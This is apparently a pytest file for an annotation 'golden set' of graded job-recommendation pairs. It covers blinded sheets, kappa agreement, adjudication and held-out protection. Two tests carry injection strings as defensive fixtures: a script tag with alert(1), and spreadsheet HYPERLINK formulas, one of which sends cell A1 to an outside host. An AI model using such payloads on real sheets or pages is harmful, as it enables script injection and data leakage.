"""The golden set: how it is drawn, judged, agreed on, and kept from training."""

import csv
import io
import json
import re
import shutil

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from distill.policy import Grader, Pairs, Policy, PolicyTables
from distill.policy.agreement import (
    OPEN,
    agreement,
    read_settled,
    settle,
    weighted_kappa,
    write_settled,
)
from distill.policy.drawing import draw_pairs, pair_keys
from distill.policy.golden import GoldenSet, sample_golden
from distill.policy.sheets import Sheet, read_sheet
from promptify.interactions import Interactions
from promptify.sources.job_market import job_market
from promptify.validation import BadInput


@pytest.fixture(scope="module")
def golden(job_grader, tmp_path_factory) -> GoldenSet:
    folder = tmp_path_factory.mktemp("golden") / "set"
    return sample_golden(job_grader, folder, count=400, segment="seniority", seed=5)


@pytest.fixture
def copied(golden, tmp_path) -> GoldenSet:
    shutil.copytree(golden.folder, tmp_path / "set")
    return GoldenSet.load(tmp_path / "set")


def sheet_of(golden, name, change=0, *, every=1) -> Sheet:
    """Somebody who says what the policy says, `change` higher, of every so manieth pair."""
    grade = np.clip(np.asarray(golden.table["grade"], np.int8) + change, 0, 4).astype(np.int8)
    grade[np.arange(len(grade)) % every != 0] = -1
    return Sheet(annotator=name, grade=grade, note={})


def filled(golden, path, grades, *, delimiter=","):
    """sheet.csv with grades written into it, as a spreadsheet saves it."""
    text = (golden.folder / "sheet.csv").read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    for row, grade in zip(rows[1:], grades, strict=False):
        row[4] = grade
    said = io.StringIO()
    csv.writer(said, delimiter=delimiter).writerows(rows)
    path.write_text("\ufeff" + said.getvalue(), "utf-8", newline="")
    return path


def test_strata_are_as_even_as_there_are_pairs(golden, job_grader, market_tables):
    table = golden.table
    assert len(table) == 400
    assert len(set(table["pair"].to_pylist())) == 400
    counts = table.group_by(["grade", "segment"]).aggregate([("pair", "count")])
    size = dict(
        zip(
            zip(counts["grade"].to_pylist(), counts["segment"].to_pylist(), strict=True),
            counts["pair_count"].to_pylist(),
            strict=True,
        )
    )
    # Grade 4 is one pair in a hundred at random, and a fifth here.
    assert sum(number for (grade, _), number in size.items() if grade == 4) > 40
    assert max(size.values()) <= 25
    held = golden.held_out
    assert 0.25 < held.mean() < 0.35
    grade = np.asarray(table["grade"])
    assert all(0.15 < held[grade == one].mean() < 0.45 for one in range(5))


def test_a_set_says_what_the_policy_says_of_each_pair(golden, job_grader, market_tables):
    log = market_tables.interactions
    row = golden.table.slice(7, 1).to_pylist()[0]
    context = -1 if row["query"] is None else log.contexts.index(row["query"])
    pairs = Pairs.of(
        users=[log.user_row(row["user_id"])],
        items=[log.item_row(row["item_id"])],
        contexts=[context],
    )
    judged = job_grader.grades(pairs)
    assert judged.grade[0] == row["grade"]
    assert judged.rules.to_pylist() == [row["rules"]]
    assert any(query is not None for query in golden.table["query"].to_pylist())


def test_the_same_seed_draws_the_same_set(job_grader, golden, tmp_path):
    again = sample_golden(job_grader, tmp_path / "again", count=400, segment="seniority", seed=5)
    assert again.table.equals(golden.table)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ({"count": 0}, "count=0 must be at least 1"),
        ({"count": 10**6}, "at most the 30,000 pairs"),
        ({"held_out": 1.0}, "held_out=1.0 must be a share"),
        ({"segment": "skills"}, "segment='skills' is a list"),
        ({"segment": "headline"}, "different values; choose a field with at most 50"),
        ({"segment": "senority"}, "did you mean seniority"),
    ],
)
def test_what_cannot_be_drawn_is_refused_and_leaves_nothing(job_grader, tmp_path, arguments, said):
    with pytest.raises(BadInput) as refused:
        sample_golden(
            job_grader, tmp_path / "set", **{"count": 50, "segment": "seniority"} | arguments
        )
    assert said in str(refused.value)
    assert list(tmp_path.iterdir()) == []


def test_a_number_is_a_segment_by_percentile(job_grader, tmp_path):
    found = sample_golden(job_grader, tmp_path / "set", count=60, segment="years")
    assert {"low", "middle", "high"} <= set(found.table["segment"].to_pylist())


def test_a_set_that_was_changed_or_cut_is_refused(copied, golden, job_grader):
    with pytest.raises(BadInput, match="is not empty"):
        sample_golden(job_grader, copied.folder, count=5, segment="place")
    path = copied.folder / "pairs.parquet"
    released = copied.table.set_column(8, "held_out", pa.array([False] * 400))
    pq.write_table(released, path)
    with pytest.raises(BadInput, match=r"pairs.parquet is not what golden.json vouches for"):
        GoldenSet.load(copied.folder)
    path.write_bytes((golden.folder / "pairs.parquet").read_bytes()[:900])
    with pytest.raises(BadInput, match="holds no whole golden set"):
        GoldenSet.load(copied.folder)


def test_annotators_see_neither_grades_nor_what_is_held_out(golden):
    page = (golden.folder / "sheet.html").read_text()
    data = json.loads(re.search(r'id="data">(.*?)</script>', page, re.DOTALL)[1])
    assert set(data["pairs"][0]) == {"pair", "query", "profile", "item"}
    assert len(data["rules"]) == 12
    head = (golden.folder / "sheet.csv").read_text("utf-8-sig").partition("\n")[0]
    assert head == "pair,query,profile,item,grade,note"
    # Nothing is fetched from anywhere.
    assert re.findall(r"(?:src|href)\s*=|https?://|@import|fetch\(", page.split("{{data}}")[0]) == [
        "href ="
    ]  # the link of the export


def test_texts_from_outside_stay_texts_in_the_sheets(small_log, small_tables, document, tmp_path):
    evil = '=HYPERLINK("http://x")</script><script>alert(1)</script><!-- \u202e'
    users = small_log.users.data.table.replace_schema_metadata()
    place = users.schema.get_field_index("place")
    users = users.set_column(place, "place", pa.array([evil] * 3))
    events = pa.table(
        {"user_id": ["ann"], "item_id": ["ward"], "action": ["apply"], "timestamp": [1]}
    )
    log = Interactions.from_tables(
        users=users,
        items=small_log.items.data.table.replace_schema_metadata(),
        events=events,
        schema=small_log.schema,
        actions=("apply", "dismiss"),
        surfaces=("jobs",),
    )
    tables = type(small_tables)(log, small_tables.task)
    grader = Grader(Policy.parse(document("value: ramp(item.pay, 20, 30)")), tables)
    found = sample_golden(grader, tmp_path / "set", count=9, segment="place", held_out=0.5)
    page = (found.folder / "sheet.html").read_text()
    assert page.count("</script>") == 2
    assert "\u202e" not in page
    rows = list(csv.reader(io.StringIO((found.folder / "sheet.csv").read_text("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "called" not in rows[1][2]  # a name is told to nobody
    assert "Ann" not in page.split('id="data"')[1]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_sheet_is_read_as_spreadsheets_save_it(golden, tmp_path, delimiter):
    grades = ["3", " 0 ", "", "4"]
    sheet = read_sheet(filled(golden, tmp_path / "anna.csv", grades, delimiter=delimiter), golden)
    assert sheet.annotator == "anna"
    assert sheet.grade[:5].tolist() == [3, 0, -1, 4, -1]


def test_a_sheet_is_read_as_the_page_exports_it(golden, tmp_path):
    pair = golden.table["pair"][3].as_py()
    path = tmp_path / "x.csv"
    path.write_text(f'"pair","annotator","grade","note"\n"{pair}","Ben","2","odd, ""very"""\n')
    sheet = read_sheet(path, golden)
    assert (sheet.annotator, sheet.grade[3], sheet.note) == ("Ben", 2, {pair: 'odd, "very"'})


@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ("grade\n3\n", "has no column pair"),
        ("pair,grade\npnone,3\n", "line 2: pair 'pnone' is not of"),
        ("pair,grade\n{0},5\n", "line 2: grade '5' must be a whole number from 0 to 4"),
        ("pair,grade\n{0},3.5\n", "grade '3.5' must be"),
        ("pair,grade\n{0},3\n{0},4\n", "line 3: pair '{0}' was judged above already"),
        ("pair,grade,annotator\n{0},3,a\n{1},3,b\n", "the judgements of a, b; give each a file"),
        ('pair,grade,note\n{0},3,"why\n{1},3,\n', "line 2: unexpected end of data; is a quotation"),
    ],
)
def test_a_line_that_does_not_fit_is_named(golden, tmp_path, rows, said):
    pairs = golden.table["pair"].to_pylist()
    (tmp_path / "x.csv").write_text(rows.format(*pairs))
    with pytest.raises(BadInput) as refused:
        read_sheet(tmp_path / "x.csv", golden)
    assert said.format(*pairs) in str(refused.value)


def test_kappa_is_one_for_the_same_and_unknown_for_too_few():
    one = np.array([0, 1, 2, 3, 4] * 3, np.int8)
    assert weighted_kappa(one, one) == 1
    assert weighted_kappa(one, one[::-1]) == pytest.approx(-1)
    assert np.isnan(weighted_kappa(one[:9], one[:9]))
    assert np.isnan(weighted_kappa(one, np.full(15, -1, np.int8)))
    assert np.isnan(weighted_kappa(np.full(15, 2, np.int8), np.full(15, 2, np.int8)))


def test_agreement_is_told_overall_by_rule_and_by_segment(golden):
    careless = sheet_of(golden, "cy")
    fired = np.array([10 in rules for rules in golden.table["rules"].to_pylist()])
    careless.grade[fired] = 4 - careless.grade[fired]
    found = {one.what: one for one in agreement(golden, [sheet_of(golden, "a"), careless])}
    assert len(found) == 1 + 12 + 5
    out_of_reach = next(one for what, one in found.items() if what.startswith("rule 10."))
    assert out_of_reach.num_pairs == fired.sum()
    assert out_of_reach.kappa < found["all pairs"].kappa < 1
    assert found["all pairs"].with_policy > found["all pairs"].kappa
    assert found["seniority junior"].num_pairs > 10
    with pytest.raises(BadInput, match="a, a; give one for each annotator"):
        agreement(golden, [sheet_of(golden, "a"), sheet_of(golden, "a", 1)])
    with pytest.raises(BadInput, match="nobody"):
        agreement(golden, [])


def test_what_is_close_is_settled_and_the_rest_waits_for_an_adjudicator(copied):
    golden = copied
    same, higher = sheet_of(golden, "a"), sheet_of(golden, "b", 1)
    higher.grade[:20] = np.where(same.grade[:20] <= 1, 4, 0)
    higher.note[golden.table["pair"][0].as_py()] = "not mine"
    settled = settle(golden, [same, higher], None)
    assert settled.count("open") == 20
    policy = np.asarray(golden.table["grade"], np.int8)
    assert (settled.grade[20:] == policy[20:]).all()  # the lower one of two
    assert settled.count("median") + settled.count("agreed") == 380

    write_settled(golden, [same, higher], settled)
    rows = list(csv.DictReader((golden.folder / OPEN).open()))
    assert len(rows) == 20
    assert rows[0]["note"] == "b: not mine"
    for row in rows:
        row["grade"] = "1"
    with (golden.folder / "carl.csv").open("w") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)
    adjudicated = read_sheet(golden.folder / "carl.csv", golden)
    settled = settle(golden, [same, higher], adjudicated)
    assert (settled.count("open"), settled.count("adjudicated")) == (0, 20)
    assert (settled.grade[:20] == 1).all()

    write_settled(golden, [same, higher], settled)
    parts = [read_settled(golden, held_out=held) for held in (True, False)]
    assert ((parts[0] >= 0) == golden.held_out).all()
    assert ((parts[1] >= 0) == ~golden.held_out).all()
    assert (np.maximum(*parts) == settled.grade).all()


def test_what_an_annotator_writes_is_no_formula_for_the_adjudicator(copied, tmp_path):
    formula = '=HYPERLINK("http://elsewhere/"&A1)'
    pair = copied.table["pair"][0].as_py()
    sheets = []
    for grade, name in (("0", formula), ("4", "+ben\x1b[2J")):
        with (tmp_path / "sheet.csv").open("w") as file:
            row = [pair, grade, name, "-1"]
            csv.writer(file).writerows([["pair", "grade", "annotator", "note"], row])
        sheets.append(read_sheet(tmp_path / "sheet.csv", copied))
    assert [sheet.annotator for sheet in sheets] == [formula, "+ben [2J"]
    write_settled(copied, sheets, settle(copied, sheets, None))
    [head, row] = csv.reader((copied.folder / OPEN).open())
    assert head == ["pair", f"'{formula}", "'+ben [2J", "grade", "note"]
    assert row == [pair, "0", "4", "", f"'{formula}: -1 / +ben [2J: -1"]


def test_one_annotator_settles_alone_and_skipped_pairs_stay_open(golden):
    settled = settle(golden, [sheet_of(golden, "a", every=4)], None)
    assert (settled.count("alone"), settled.count("nobody")) == (100, 300)


def test_nothing_is_settled_before_people_judged(golden):
    with pytest.raises(BadInput, match="has no labels yet"):
        read_settled(golden, held_out=False)


def test_labels_that_hold_a_held_out_pair_are_refused(golden, market_tables):
    held = golden.table.filter(pa.array(golden.held_out))
    free = golden.table.filter(pa.array(~golden.held_out))
    golden.refuse_held_out(free.select(["user_id", "item_id", "grade"]), file="labels.arrow")
    both = pa.concat_tables([free, held.slice(3, 1)]).select(["user_id", "item_id", "grade"])
    with pytest.raises(BadInput) as refused:
        golden.refuse_held_out(both, file="labels.arrow")
    assert "labels.arrow holds 1 pair of the part of" in str(refused.value)
    assert held["user_id"][3].as_py() in str(refused.value)
    keys = golden.held_out_keys(market_tables)
    strangers = job_market(num_members=200, num_jobs=150, num_impressions=4000, seed=1)
    with pytest.raises(BadInput, match=r"is of another log: of its 400 pairs [0-9]+ are told here"):
        golden.held_out_keys(PolicyTables(strangers.interactions, strangers.tasks[0]))
    assert len(keys) == golden.held_out.sum()
    drawn = draw_pairs(market_tables, 29_000, without=keys)
    assert not np.isin(pair_keys(drawn.pairs, market_tables), keys).any()
